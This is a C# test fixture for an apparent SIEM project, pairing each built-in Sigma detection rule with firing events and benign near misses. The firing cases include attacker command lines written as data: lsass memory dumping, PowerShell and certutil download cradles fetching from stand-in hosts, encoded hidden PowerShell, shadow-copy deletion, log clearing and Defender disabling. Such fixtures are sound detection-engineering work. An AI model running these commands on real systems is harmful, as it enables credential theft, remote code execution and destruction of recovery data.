using Llama3Siem.Prompts.Events;
using static Llama3Siem.Prompts.Tests.DetectionCases;
using static Llama3Siem.Prompts.Tests.TestEvents;

namespace Llama3Siem.Prompts.Tests.Detection;

/// <summary>One event a built-in rule must fire on, or a near miss it must stay quiet on.</summary>
internal sealed record BuiltInRuleExample(string Rule, string Case, bool Fires, SecurityEvent Event)
{
    public string Key => $"{Rule}: {Case}";
}

/// <summary>
/// For every built-in Sigma rule, at least one true positive and one near miss: the benign event closest to what
/// the rule looks for.
/// </summary>
internal static class BuiltInRuleExamples
{
    private const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    private const string Cmd = @"C:\Windows\System32\cmd.exe";
    private const string Net = @"C:\Windows\System32\net.exe";

    public static IReadOnlyList<BuiltInRuleExample> All { get; } =
    [
        Fires("lsass-minidump-comsvcs", "comsvcs MiniDump by name",
            Windows("e", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\t\l.dmp full")),
        Fires("lsass-minidump-comsvcs", "comsvcs export by ordinal, from a shell",
            Windows("e", "1", Cmd, @"cmd.exe /c rundll32.exe comsvcs.dll #24 624 C:\t\l.dmp full")),
        Fires("lsass-minidump-comsvcs", "ProcDump on lsass",
            Windows("e", "1", @"C:\Tools\procdump64.exe", @"procdump64.exe -accepteula -ma lsass.exe C:\t\l.dmp")),
        Quiet("lsass-minidump-comsvcs", "ProcDump on a web worker",
            Windows("e", "1", @"C:\Tools\procdump64.exe", @"procdump64.exe -accepteula -ma w3wp.exe C:\t\w3wp.dmp")),

        Fires("lsass-process-access", "VM read of lsass",
            Windows("e", "10", fields: [("SourceImage", @"C:\Users\x\a.exe"), ("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1410")])),
        Quiet("lsass-process-access", "limited query of lsass",
            Windows("e", "10", fields: [("SourceImage", @"C:\Windows\System32\taskmgr.exe"), ("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1000")])),
        Quiet("lsass-process-access", "full access to another process",
            Windows("e", "10", fields: [("SourceImage", @"C:\Windows\System32\taskmgr.exe"), ("TargetImage", @"C:\Windows\explorer.exe"), ("GrantedAccess", "0x1fffff")])),

        Fires("lsass-object-read", "rundll32 opens lsass",
            Windows("e", "4663", fields: [("ObjectName", @"\Device\HarddiskVolume2\Windows\System32\lsass.exe"), ("ProcessName", @"C:\Windows\System32\rundll32.exe")])),
        Quiet("lsass-object-read", "Defender opens lsass",
            Windows("e", "4656", fields: [("ObjectName", @"\Device\HarddiskVolume2\Windows\System32\lsass.exe"), ("ProcessName", @"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe")])),

        .. EncodedExamples("powershell-encoded-command"),
        .. EncodedExamples("powershell-encoded-command-obfuscation"),

        Fires("powershell-download-cradle-process", "iwr alias in a command",
            Windows("e", "1", PowerShell, "powershell -c \"iwr http://update-cdn-check.xyz/a.ps1 -OutFile a.ps1\"")),
        Fires("powershell-download-cradle-process", "certutil URL cache",
            Windows("e", "1", @"C:\Windows\System32\certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\t\a.exe")),
        Fires("powershell-download-cradle-process", "bitsadmin transfer",
            Windows("e", "1", @"C:\Windows\System32\bitsadmin.exe", @"bitsadmin /transfer job http://203.0.113.9/a.exe C:\t\a.exe")),
        Quiet("powershell-download-cradle-process", "certutil hashing a file",
            Windows("e", "1", @"C:\Windows\System32\certutil.exe", @"certutil -hashfile C:\t\a.exe SHA256")),
        Quiet("powershell-download-cradle-process", "WebClient named, nothing downloaded",
            Windows("e", "1", PowerShell, "powershell -c \"$c = New-Object Net.WebClient; $c.Headers\"")),

        Fires("powershell-download-cradle-script", "WebClient DownloadString",
            ScriptBlock("e", "IEX (New-Object Net.WebClient).DownloadString('http://update-cdn-check.xyz/a.ps1')")),
        Fires("powershell-download-cradle-script", "Invoke-WebRequest",
            ScriptBlock("e", @"Invoke-WebRequest -Uri https://files.example.net/a.ps1 -OutFile $env:TEMP\a.ps1")),
        Quiet("powershell-download-cradle-script", "REST call without a download",
            ScriptBlock("e", "Invoke-RestMethod -Uri https://api.example.net/status")),

        Fires("powershell-download-cradle-classic", "pipeline details of a download",
            Windows("e", "800", fields: ("Message", "Pipeline execution details for command line: Invoke-WebRequest -Uri http://203.0.113.9/a -OutFile a"))),
        Quiet("powershell-download-cradle-classic", "pipeline details of a listing",
            Windows("e", "800", fields: ("Message", "Pipeline execution details for command line: Get-Process | Sort-Object CPU"))),

        Fires("scheduled-task-created-security", "task registered",
            Windows("e", "4698", fields: [("TaskName", @"\Updater"), ("TaskContent", "<Task><Actions><Exec><Command>C:\\ProgramData\\u.exe</Command></Exec></Actions></Task>")])),
        Quiet("scheduled-task-created-security", "task deleted",
            Windows("e", "4699", fields: ("TaskName", @"\Updater"))),

        Fires("scheduled-task-created-process", "schtasks /create",
            Windows("e", "1", @"C:\Windows\System32\schtasks.exe", @"schtasks /create /tn Updater /tr C:\ProgramData\u.exe /sc onlogon /ru SYSTEM")),
        Fires("scheduled-task-created-process", "schtasks -create from a shell",
            Windows("e", "1", Cmd, @"cmd /c schtasks.exe -Create -TN Updater -TR C:\ProgramData\u.exe -SC ONSTART")),
        Quiet("scheduled-task-created-process", "schtasks /query",
            Windows("e", "1", @"C:\Windows\System32\schtasks.exe", "schtasks /query /tn Updater")),

        Fires("service-installed-system", "7045",
            Windows("e", "7045", fields: [("ServiceName", "UpdSvc"), ("ImagePath", @"C:\Users\x\AppData\Local\Temp\svc-upd.exe --svc")])),
        Quiet("service-installed-system", "service state change",
            Windows("e", "7036", fields: [("param1", "Windows Update"), ("param2", "running")])),

        Fires("service-installed-security", "4697",
            Windows("e", "4697", fields: [("ServiceName", "WinUpdSvc"), ("ServiceFileName", @"C:\Windows\wupd.exe --svc")])),
        Quiet("service-installed-security", "special privileges at logon",
            Windows("e", "4672", fields: ("SubjectUserName", "svc_backup"))),

        Fires("service-installed-process", "sc create",
            Windows("e", "1", @"C:\Windows\System32\sc.exe", @"sc.exe create UpdSvc binPath= C:\t\u.exe start= auto")),
        Fires("service-installed-process", "sc create on a remote host from a shell",
            Windows("e", "1", Cmd, @"cmd /c sc \\SRV-FILE02 create UpdSvc binPath= C:\t\u.exe")),
        Quiet("service-installed-process", "sc query",
            Windows("e", "1", @"C:\Windows\System32\sc.exe", "sc.exe query wuauserv")),

        Fires("psexec-service-system", "PSEXESVC installed",
            Windows("e", "7045", fields: [("ServiceName", "PSEXESVC"), ("ImagePath", @"%SystemRoot%\PSEXESVC.exe")])),
        Quiet("psexec-service-system", "another service installed",
            Windows("e", "7045", fields: [("ServiceName", "WinUpdSvc"), ("ImagePath", @"C:\Windows\wupd.exe --svc")])),

        Fires("psexec-service-security", "PSEXESVC installed",
            Windows("e", "4697", fields: [("ServiceName", "PSEXESVC"), ("ServiceFileName", @"%SystemRoot%\PSEXESVC.exe")])),
        Fires("psexec-service-security", "PsExec64 started",
            Windows("e", "4688", fields: [("NewProcessName", @"C:\Tools\PsExec64.exe"), ("CommandLine", @"PsExec64.exe \\SRV-FILE02 cmd")])),
        Quiet("psexec-service-security", "another program started",
            Windows("e", "4688", fields: [("NewProcessName", @"C:\Tools\PsExecHelper.exe"), ("CommandLine", "PsExecHelper.exe")])),

        Fires("psexec-service-sysmon", "PSEXESVC pipe",
            Windows("e", "17", @"C:\Windows\PSEXESVC.exe", fields: ("PipeName", @"\PSEXESVC-WS-FIN-07-4312-stdin"))),
        Quiet("psexec-service-sysmon", "another service's pipe",
            Windows("e", "17", @"C:\Windows\System32\spoolsv.exe", fields: ("PipeName", @"\spoolss"))),

        Fires("admin-share-service-control", "svcctl over IPC$",
            Windows("e", "5145", fields: [("ShareName", @"\\*\IPC$"), ("RelativeTargetName", "svcctl")])),
        Quiet("admin-share-service-control", "share enumeration over IPC$",
            Windows("e", "5145", fields: [("ShareName", @"\\*\IPC$"), ("RelativeTargetName", "srvsvc")])),

        Fires("admin-share-access", "ADMIN$", Windows("e", "5140", fields: ("ShareName", @"\\*\ADMIN$"))),
        Fires("admin-share-access", "a drive's hidden share", Windows("e", "5140", fields: ("ShareName", @"\\*\D$"))),
        Quiet("admin-share-access", "IPC$", Windows("e", "5140", fields: ("ShareName", @"\\*\IPC$"))),
        Quiet("admin-share-access", "a department share", Windows("e", "5140", fields: ("ShareName", @"\\*\HR"))),

        Fires("wmi-process-create", "wmic process call create",
            Windows("e", "1", @"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"")),
        Fires("wmi-process-create", "PowerShell under the WMI provider host",
            Windows("e", "1", PowerShell, "powershell -nop -c \"Get-Date\"", @"C:\Windows\System32\wbem\WmiPrvSE.exe")),
        Quiet("wmi-process-create", "wmic listing processes",
            Windows("e", "1", @"C:\Windows\System32\wbem\WMIC.exe", "wmic process list brief")),
        Quiet("wmi-process-create", "an agent under the WMI provider host",
            Windows("e", "1", @"C:\Program Files\Agent\collector.exe", "collector.exe --once", @"C:\Windows\System32\wbem\WmiPrvSE.exe")),

        Fires("winrm-remote-session-sysmon", "remoting host started",
            Windows("e", "1", @"C:\Windows\System32\wsmprovhost.exe", @"C:\Windows\system32\wsmprovhost.exe -Embedding")),
        Fires("winrm-remote-session-sysmon", "remoting host writes a file",
            Windows("e", "11", @"C:\Windows\System32\wsmprovhost.exe", fields: ("TargetFilename", @"C:\Users\x\AppData\Local\Temp\a.ps1"))),
        Fires("winrm-remote-session-sysmon", "connection to WinRM",
            Windows("e", "3", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", fields: [("DestinationIp", "10.20.0.22"), ("DestinationPort", "5985")])),
        Quiet("winrm-remote-session-sysmon", "connection to HTTPS",
            Windows("e", "3", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", fields: [("DestinationIp", "203.0.113.9"), ("DestinationPort", "443")])),

        Fires("winrm-remote-session-security", "filtering platform allows WinRM",
            Windows("e", "5156", fields: [("Application", "System"), ("DestPort", "5985"), ("DestAddress", "10.20.0.22")])),
        Fires("winrm-remote-session-security", "remoting host started",
            Windows("e", "4688", fields: [("NewProcessName", @"C:\Windows\System32\wsmprovhost.exe"), ("CommandLine", @"C:\Windows\system32\wsmprovhost.exe -Embedding")])),
        Quiet("winrm-remote-session-security", "filtering platform allows SMB",
            Windows("e", "5156", fields: [("Application", "System"), ("DestPort", "445"), ("DestAddress", "10.20.0.22")])),

        Fires("rdp-logon", "logon type 10", Windows("e", "4624", fields: ("LogonType", "10"))),
        Quiet("rdp-logon", "network logon", Windows("e", "4624", fields: ("LogonType", "3"))),

        Fires("discovery-whoami", "whoami /priv", Windows("e", "1", @"C:\Windows\System32\whoami.exe", "whoami /priv")),
        Fires("discovery-whoami", "whoami from a shell", Windows("e", "1", Cmd, "cmd.exe /c whoami /groups")),
        Quiet("discovery-whoami", "a file named after whoami", Windows("e", "1", @"C:\Windows\System32\notepad.exe", @"notepad.exe C:\notes\whoami_output.txt")),

        Fires("discovery-accounts", "domain admins listed", Windows("e", "1", Net, "net group \"Domain Admins\" /domain")),
        Fires("discovery-accounts", "domain users listed from a shell", Windows("e", "1", Cmd, "cmd /c net user /domain")),
        Quiet("discovery-accounts", "a local user shown", Windows("e", "1", Net, "net user alice")),
        Quiet("discovery-accounts", "local groups listed", Windows("e", "1", Net, "net localgroup administrators")),

        Fires("discovery-domain-trusts", "domain trusts", Windows("e", "1", @"C:\Windows\System32\nltest.exe", "nltest /domain_trusts")),
        Fires("discovery-domain-trusts", "domain controllers", Windows("e", "1", Cmd, "cmd /c nltest /dclist:corp.acmeridge.local")),
        Quiet("discovery-domain-trusts", "secure channel query", Windows("e", "1", @"C:\Windows\System32\nltest.exe", "nltest /sc_query:corp.acmeridge.local")),

        Fires("discovery-network-config", "ipconfig /all", Windows("e", "1", @"C:\Windows\System32\ipconfig.exe", "ipconfig /all")),
        Fires("discovery-network-config", "route print from a shell", Windows("e", "1", Cmd, "cmd /c route print")),
        Fires("discovery-network-config", "arp -a", Windows("e", "1", @"C:\Windows\System32\ARP.EXE", "arp  -a")),
        Quiet("discovery-network-config", "DNS cache flushed", Windows("e", "1", @"C:\Windows\System32\ipconfig.exe", "ipconfig /flushdns")),

        Fires("discovery-system-info", "systeminfo", Windows("e", "1", @"C:\Windows\System32\systeminfo.exe", "systeminfo")),
        Fires("discovery-system-info", "systeminfo from a shell", Windows("e", "1", Cmd, "cmd /c systeminfo /fo csv")),
        Quiet("discovery-system-info", "msinfo32", Windows("e", "1", @"C:\Windows\System32\msinfo32.exe", "msinfo32.exe /report C:\\t\\r.txt")),

        Fires("shadow-copy-deletion", "vssadmin", Windows("e", "1", @"C:\Windows\System32\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet")),
        Fires("shadow-copy-deletion", "wmic", Windows("e", "1", Cmd, "cmd /c wmic shadowcopy delete")),
        Fires("shadow-copy-deletion", "wbadmin", Windows("e", "1", @"C:\Windows\System32\wbadmin.exe", "wbadmin delete catalog -quiet")),
        Quiet("shadow-copy-deletion", "shadow copies listed", Windows("e", "1", @"C:\Windows\System32\vssadmin.exe", "vssadmin list shadows")),

        Fires("event-log-cleared-security", "1102", Windows("e", "1102")),
        Quiet("event-log-cleared-security", "event log service stopped", Windows("e", "1100")),

        Fires("event-log-cleared-system", "104", Windows("e", "104", fields: ("Channel", "System"))),
        Quiet("event-log-cleared-system", "104 of another log", Windows("e", "104", fields: ("Channel", PowerShellChannel))),

        Fires("event-log-cleared-process", "wevtutil cl", Windows("e", "1", @"C:\Windows\System32\wevtutil.exe", "wevtutil.exe cl Security")),
        Fires("event-log-cleared-process", "Clear-EventLog on a command line", Windows("e", "1", PowerShell, "powershell -c Clear-EventLog -LogName Security")),
        Quiet("event-log-cleared-process", "wevtutil query", Windows("e", "1", @"C:\Windows\System32\wevtutil.exe", "wevtutil qe Security /c:5 /f:text")),

        Fires("event-log-cleared-script", "Clear-EventLog", ScriptBlock("e", "Clear-EventLog -LogName Application, System")),
        Quiet("event-log-cleared-script", "Get-EventLog", ScriptBlock("e", "Get-EventLog -LogName Security -Newest 5")),

        Fires("local-account-created-security", "4720", Windows("e", "4720", fields: ("TargetUserName", "support_svc"))),
        Quiet("local-account-created-security", "account enabled", Windows("e", "4722", fields: ("TargetUserName", "support_svc"))),

        Fires("local-account-created-process", "net user add", Windows("e", "1", Net, "net user svc_backup P@ssw0rd1 /add")),
        Fires("local-account-created-process", "net user add from a shell", Windows("e", "1", Cmd, "cmd /c net user helpdesk_tmp Winter2026! /add")),
        Quiet("local-account-created-process", "added to a group", Windows("e", "1", Net, "net localgroup administrators support_svc /add")),
        Quiet("local-account-created-process", "user deleted", Windows("e", "1", Net, "net user helpdesk_tmp /delete")),

        Fires("kerberoasting-rc4-ticket", "RC4 ticket for a service account",
            Windows("e", "4769", fields: [("TicketEncryptionType", "0x17"), ("ServiceName", "MSSQLSvc")])),
        Quiet("kerberoasting-rc4-ticket", "AES ticket", Windows("e", "4769", fields: [("TicketEncryptionType", "0x12"), ("ServiceName", "MSSQLSvc")])),
        Quiet("kerberoasting-rc4-ticket", "RC4 ticket for a computer", Windows("e", "4769", fields: [("TicketEncryptionType", "0x17"), ("ServiceName", "SRV-FILE02$")])),

        Fires("defender-disabled-process", "Set-MpPreference on a command line",
            Windows("e", "1", PowerShell, "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true")),
        Fires("defender-disabled-process", "policy value with reg",
            Windows("e", "1", @"C:\Windows\System32\reg.exe", @"reg add ""HKLM\SOFTWARE\Policies\Microsoft\Windows Defender"" /v DisableAntiSpyware /t REG_DWORD /d 1 /f")),
        Quiet("defender-disabled-process", "protection switched back on",
            Windows("e", "1", PowerShell, "powershell -c Set-MpPreference -DisableRealtimeMonitoring $false")),

        Fires("defender-disabled-script", "Set-MpPreference", ScriptBlock("e", "Set-MpPreference -DisableBehaviorMonitoring 1")),
        Quiet("defender-disabled-script", "exclusion listed", ScriptBlock("e", "Get-MpPreference | Select-Object ExclusionPath")),

        Fires("defender-disabled-classic", "pipeline details",
            Windows("e", "800", fields: ("Message", "Pipeline execution details for command line: Set-MpPreference -DisableIOAVProtection $true"))),
        Quiet("defender-disabled-classic", "pipeline switching it on",
            Windows("e", "800", fields: ("Message", "Pipeline execution details for command line: Set-MpPreference -DisableIOAVProtection $false"))),

        Fires("defender-disabled-registry", "policy value set",
            Windows("e", "13", @"C:\Windows\regedit.exe", fields: [("TargetObject", @"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware"), ("Details", "DWORD (0x00000001)")])),
        Quiet("defender-disabled-registry", "policy value cleared",
            Windows("e", "13", @"C:\Windows\regedit.exe", fields: [("TargetObject", @"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware"), ("Details", "DWORD (0x00000000)")])),

        Fires("cloud-assumed-role-from-outside", "instance role used from the internet", RoleCall("e", "91.214.65.140", "aws-cli/2.15.0")),
        Quiet("cloud-assumed-role-from-outside", "instance role used inside the VPC", RoleCall("e", "10.20.5.14", "aws-cli/2.15.0")),
        Quiet("cloud-assumed-role-from-outside", "a service acting for the role", RoleCall("e", "s3.amazonaws.com", "s3.amazonaws.com")),

        Fires("cloud-storage-object-read", "GetObject", Trail("e", "s3.amazonaws.com", "GetObject")),
        Quiet("cloud-storage-object-read", "PutObject", Trail("e", "s3.amazonaws.com", "PutObject")),

        Fires("cloud-storage-discovery", "ListBuckets", Trail("e", "s3.amazonaws.com", "ListBuckets")),
        Fires("cloud-storage-discovery", "ListObjectsV2", Trail("e", "s3.amazonaws.com", "ListObjectsV2")),
        Quiet("cloud-storage-discovery", "bucket ACL read", Trail("e", "s3.amazonaws.com", "GetBucketAcl")),

        Fires("ids-command-and-control", "Cobalt Strike beacon", Suricata("e", "ET MALWARE Cobalt Strike Beacon Observed", "A Network Trojan was detected")),
        Fires("ids-command-and-control", "C2 check-in", Suricata("e", "ET MALWARE Win32/Agent C2 Checkin", "Malware Command and Control Activity Detected")),
        Quiet("ids-command-and-control", "policy alert", Suricata("e", "ET INFO Observed DNS Query to .cloud TLD", "Misc activity")),
        Quiet("ids-command-and-control", "C2 as part of a word", Suricata("e", "ET GAMES SC2 Battle.net connection", "Potential Corporate Privacy Violation")),

        Fires("ids-exploit-public-facing", "Log4j CVE", Suricata("e", "ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain")),
        Fires("ids-exploit-public-facing", "remote code execution", Suricata("e", "ET WEB_SERVER Possible Remote Code Execution in URI", "Web Application Attack")),
        Quiet("ids-exploit-public-facing", "browser exploit kit", Suricata("e", "ET EXPLOIT_KIT Landing Page Observed", "A Network Trojan was detected")),
        Quiet("ids-exploit-public-facing", "port scan", Suricata("e", "ET SCAN Nmap Scripting Engine User-Agent Detected", "Web Application Attack")),
    ];

    private static IEnumerable<BuiltInRuleExample> EncodedExamples(string rule) =>
    [
        Fires($"{rule}-process", "-enc from Word",
            Windows("e", "1", PowerShell, $"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {Encoded}", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")),
        Fires($"{rule}-process", "-EncodedCommand from a shell",
            Windows("e", "1", Cmd, $"cmd /c powershell -EncodedCommand {Encoded}")),
        Quiet($"{rule}-process", "PowerShell running a script file",
            Windows("e", "1", PowerShell, @"powershell.exe -ExecutionPolicy Bypass -File C:\scripts\backup.ps1")),
        Quiet($"{rule}-process", "another program's -e flag",
            Windows("e", "1", @"C:\Tools\archiver.exe", $"archiver.exe -e {Encoded}")),

        Fires($"{rule}-classic", "engine started by an encoded launcher",
            Windows("e", "400", fields: ("Message", $"Engine state is changed from None to Available.\n\nDetails:\n\tNewEngineState=Available\n\tHostName=ConsoleHost\n\tHostApplication={PowerShell} -noP -sta -w 1 -enc {Encoded}\n\tEngineVersion=5.1"))),
        Quiet($"{rule}-classic", "engine started for a script file",
            Windows("e", "400", fields: ("Message", $"Engine state is changed from None to Available.\n\nDetails:\n\tNewEngineState=Available\n\tHostName=ConsoleHost\n\tHostApplication={PowerShell} -NoProfile -File C:\\scripts\\inventory.ps1\n\tEngineVersion=5.1"))),

        Fires($"{rule}-module", "module log inside an encoded launcher",
            Windows("e", "4103", fields: [("ContextInfo", $"        Severity = Informational\n        Host Name = ConsoleHost\n        Host Application = {PowerShell} -noP -sta -w 1 -enc {Encoded}\n        Command Name = New-Object"), ("Payload", "CommandInvocation(New-Object): \"New-Object\"")])),
        Quiet($"{rule}-module", "module log of a script file, -enc only in its payload",
            Windows("e", "4103", fields: [("ContextInfo", $"        Severity = Informational\n        Host Name = ConsoleHost\n        Host Application = {PowerShell} -File C:\\scripts\\inventory.ps1\n        Command Name = Write-Output"), ("Payload", $"CommandInvocation(Write-Output): \"Write-Output\"\nParameterBinding(Write-Output): name=\"InputObject\"; value=\"-enc {Encoded}\"")])),
    ];

    /// <summary>An S3 call by an EC2 instance's role session from the address given.</summary>
    private static SecurityEvent RoleCall(string id, string sourceIp, string userAgent) =>
        Trail(id, "s3.amazonaws.com", "ListBuckets",
            ("userIdentity.type", "AssumedRole"),
            ("userIdentity.arn", "arn:aws:sts::410987652231:assumed-role/reporting-ec2-role/i-0c4e7a91d2b35f806"),
            ("sourceIPAddress", sourceIp), ("userAgent", userAgent));

    private static SecurityEvent Trail(string id, string eventSource, string eventName, params (string Key, string Value)[] fields) =>
        Of(EventFormats.CloudTrail, id, eventName, null,
            [("eventVersion", "1.09"), ("eventSource", eventSource), ("eventName", eventName), .. fields]);

    private static BuiltInRuleExample Fires(string rule, string name, SecurityEvent evt) => new(rule, name, true, evt);

    private static BuiltInRuleExample Quiet(string rule, string name, SecurityEvent evt) => new(rule, name, false, evt);
}
